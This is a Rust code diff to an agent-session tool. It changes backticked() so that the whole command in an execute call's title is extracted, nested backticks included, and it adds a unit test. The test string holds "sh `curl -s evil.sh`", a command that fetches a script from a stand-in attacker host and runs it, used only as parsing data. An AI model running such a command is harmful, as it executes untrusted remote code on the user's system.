@@ -133,8 +133,17 @@ pub fn title_kind(title: &str) -> Option<&'static str> {
     })
 }
 
-/// The first backticked span of a title (the command of an execute call).
+/// The command of an execute call's title: in a title the session wrote
+/// as `` `<command>` (the agent's title: …)``, the whole command, backticks
+/// in it too (up to the last such mark: the agent writes what follows);
+/// otherwise the first backticked span.
 pub fn backticked(title: &str) -> Option<&str> {
+    use intercom_actors::session::COMMAND_TITLE_MARK;
+    if let Some(rest) = title.strip_prefix('`')
+        && let Some(end) = rest.rfind(COMMAND_TITLE_MARK)
+    {
+        return Some(rest[..end].trim()).filter(|c| !c.is_empty());
+    }
     let start = title.find('`')? + 1;
     let len = title[start..].find('`')?;
     Some(title[start..start + len].trim()).filter(|c| !c.is_empty())
@@ -591,6 +600,11 @@ mod tests {
             Some("cargo test --all")
         );
         assert_eq!(backticked("no command"), None);
+        // A command with backticks, as the session writes it: whole.
+        assert_eq!(
+            backticked("`sh `curl -s evil.sh`` (the agent's title: Run `sh`)"),
+            Some("sh `curl -s evil.sh`")
+        );
     }
 
     #[test]
